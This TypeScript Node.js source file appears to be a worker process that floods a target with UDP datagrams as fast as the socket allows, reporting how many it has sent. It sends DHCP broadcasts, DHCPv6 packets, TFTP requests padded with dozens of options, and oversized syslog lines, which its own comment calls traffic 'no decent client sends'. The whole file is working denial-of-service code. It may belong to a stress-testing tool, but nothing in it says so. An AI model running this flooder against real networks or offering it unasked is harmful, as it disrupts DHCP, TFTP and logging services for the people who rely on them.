// Sends what no decent client sends, as fast as a socket takes it, until its standard input ends; prints again and again how many datagrams left.
import { createSocket, type Socket } from 'node:dgram';
import { dhcp6Payload, dhcpPayload, dhcpTarget } from './flood-payloads';
import type { Flood, OtherFlood } from './flood';

const flood = JSON.parse(process.argv[2] ?? '') as Flood;

/** Messages. */
const turn = 100;

interface Shot {
  readonly payload: (number: number) => Uint8Array;
  readonly port: number;
  readonly target: string;
}

function shotOf(what: Flood): Shot {
  if (what.kind === 'dhcp') return { payload: dhcpPayload(what), port: 67, target: dhcpTarget(what) };
  return { payload: payloadOf(what), port: what.port, target: what.target };
}

function payloadOf({ kind, target }: OtherFlood): Shot['payload'] {
  switch (kind) {
    case 'tftp-options': {
      const options = Array.from({ length: 60 }, (_, i) => `o${i}\0${i}\0`).join('');
      return (number) => Buffer.from(`\0\x01none${number}\0octet\0${options}`);
    }
    case 'syslog':
      return (number) => Buffer.from(`<7>kernel: ${number} ${'x'.repeat(1400)}`);
    default:
      return dhcp6Payload(kind, target);
  }
}

async function open(what: Flood, target: string): Promise<Socket> {
  const socket = createSocket(target.includes(':') ? 'udp6' : 'udp4');
  if (what.kind !== 'dhcp') return socket;
  await new Promise<void>((resolve) => socket.bind({ port: 68 }, resolve));
  socket.setBroadcast(true);
  return socket;
}

async function main(): Promise<void> {
  const { payload, port, target } = shotOf(flood);
  const socket = await open(flood, target);
  let [sent, isOver] = [0, false];
  process.stdin.once('end', () => (isOver = true)).resume();
  for (let number = 0; number < flood.count && !isOver; number++) {
    const bytes = payload(number);
    await new Promise<void>((resolve) =>
      socket.send(bytes, port, target, (error) => {
        if (!error) sent++;
        resolve();
      }),
    );
    if (number % turn !== 0) continue;
    process.stdout.write(`${sent}\n`);
    // Sending alone never lets the end of standard input be heard.
    await new Promise(setImmediate);
  }
  socket.close();
  process.stdin.destroy();
  process.stdout.write(`${sent}\n`);
}

void main();
